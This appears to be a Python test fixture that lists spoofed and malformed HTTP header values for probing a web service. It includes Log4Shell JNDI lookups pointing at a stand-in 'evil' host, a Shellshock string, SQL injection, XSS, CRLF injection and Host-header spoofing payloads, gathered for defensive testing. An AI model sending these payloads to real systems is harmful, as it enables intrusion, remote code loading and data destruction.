"""Headers by which a client pretends to be somebody, somewhere or something else."""

_ADDRESSES = ("127.0.0.1", "10.0.0.1", "::1", "198.18.0.77", "127.0.0.1, 127.0.0.1", "unknown", "localhost", "'", "0")
_ADDRESS_HEADERS = (
    "X-Forwarded-For", "X-Real-IP", "X-Client-IP", "True-Client-IP", "CF-Connecting-IP", "X-Cluster-Client-IP",
    "X-Originating-IP", "X-Remote-IP", "X-Remote-Addr", "X-ProxyUser-Ip", "Fastly-Client-IP", "Client-IP",
    "X_Forwarded_For", "X-Forwarded_For", "x-forwarded-for", "Via",
)  # fmt: skip

SPOOFS: list[tuple[str, str]] = [
    *((name, address) for name in _ADDRESS_HEADERS for address in _ADDRESSES),
    *(("Forwarded", value) for value in (
        "for=127.0.0.1", 'for="[::1]";proto=http;host=evil', "for=unknown", "for=_hidden, for=127.0.0.1", ";;;", "by=x",
    )),
    *(("X-Request-ID", value) for value in (
        "", " ", "x" * 129, "x" * 5000, "a b", 'a"b', "a,b", "a/b", "../../etc", "${jndi:ldap://evil/a}", "%0d%0aX: y",
        "a\tb", "\u00fc", "<script>", "{{7*7}}", "'; DROP TABLE jobs--", "a\\b", "a\x7fb",
    )),
    *(("X-Sightglass-Route", value) for value in ("/forged", "", '"} 1e9\nedge_x 1', "(unmatched)", "/api/v1/predict")),
    *(("traceparent", value) for value in (
        "00-" + "0" * 32 + "-" + "1" * 16 + "-01", "00-" + "a" * 32 + "-" + "0" * 16 + "-01",
        "ff-" + "a" * 32 + "-" + "b" * 16
        + "-01", "00-" + "A" * 32 + "-" + "B" * 16 + "-01", "00-" + "a" * 31 + "-" + "b" * 16 + "-01", "x" * 5000, "",
        "00-" + "a" * 32 + "-" + "b" * 16 + "-01-extra", "00-" + "a" * 32 + "-" + "b" * 16 + "-1",
    )),
    *(("tracestate", value) for value in ("a=" + "b" * 4000, "a=1," * 500, "=", "a=\u00fc")),
    *(("Host", value) for value in (
        "evil.example", "evil.example:443", "localhost:9113", "127.0.0.1", "[::1]", "localhost@evil.example", "nginx",
        "api",
        "localhost, evil.example", "localhost:99999", "localhost:x", "..", "a" * 300, "localhost\\", "xn--",
        "%6cocalhost",
    )),
    *(("X-Forwarded-Proto", value) for value in ("http", "https, http", "gopher", "")),
    *(("X-Forwarded-Host", value) for value in ("evil.example", "evil.example, localhost", "")),
    *(("X-Forwarded-Port", value) for value in ("22", "x")),
    *(("X-Forwarded-Prefix", value) for value in ("/evil", "//evil.example", "/../../metrics")),
    *(("X-Original-URL", value) for value in ("/metrics", "/api/v1/jobs")),
    *(("X-Rewrite-URL", value) for value in ("/metrics", "/api/v1/jobs")),
    *(("X-HTTP-Method-Override", value) for value in ("DELETE", "TRACE")),
    *(("X-Accel-Redirect", value) for value in ("/metrics", "/replicas")),
    *(("X-Accel-Buffering", value) for value in ("yes", "no")),
    *(("Upgrade", value) for value in ("h2c", "HTTP/2.0", "TLS/1.0", "websocket, h2c", "foo/2")),
    *(("Connection", value) for value in (
        "close, X-Request-ID", "X-Forwarded-For, X-Real-IP", "Host", "Content-Length", "Upgrade, HTTP2-Settings",
        "keep-alive, x" * 50,
    )),
    *(("Expect", value) for value in ("100-continue", "200-ok", "100-continue, 100-continue")),
    *(("Range", value) for value in ("bytes=0-", "bytes=" + ",".join("0-" for _ in range(1300)), "bytes=-1,-2", "x=1")),
    *(("Accept", value) for value in ("*/*;q=" + "9" * 4000, "a/b," * 1500, "../..", "\u00fc/x")),
    *(("Accept-Encoding", value) for value in ("gzip;q=0.000000001", "gzip, " * 1000, "identity;q=0, *;q=0")),
    *(("Accept-Language", value) for value in ("x-" + "a" * 4000, "en;q=NaN")),
    *(("If-None-Match", value) for value in ('"' + "x" * 7000 + '"', "*", 'W/"', '",' * 1000)),
    *(("If-Modified-Since", value) for value in ("Thu, 01 Jan 99999 00:00:00 GMT", "x")),
    *(("Cookie", value) for value in ("a=" + "b" * 7000, ";" * 4000, "session=\u0001")),
    *(("Authorization", value) for value in ("Basic " + "A" * 7000, "Bearer", "Digest x", "Bearer \u00fc")),
    *(("Origin", value) for value in ("null", "https://evil.example", "https://localhost.evil.example", "x")),
    *(("Sec-Fetch-Dest", value) for value in ("script", "SCRIPT", "script, image", "worker")),
    *(("Content-Type", value) for value in ("x" * 7000, "a/b;" * 1500, "text/plain; charset*=utf-8''%00", "/")),
    *(("Proxy", value) for value in ("http://evil.example:3128",)),
    *(("Max-Forwards", value) for value in ("0", "-1")),
    *(("User-Agent", value) for value in ("() { :;}; echo x", "${jndi:ldap://evil.example/a}",
    "'\"><img src=x onerror=alert(1)>")),
    *(("Referer", value) for value in ("https://evil.example/" + "a" * 7000,)),
]  # fmt: skip
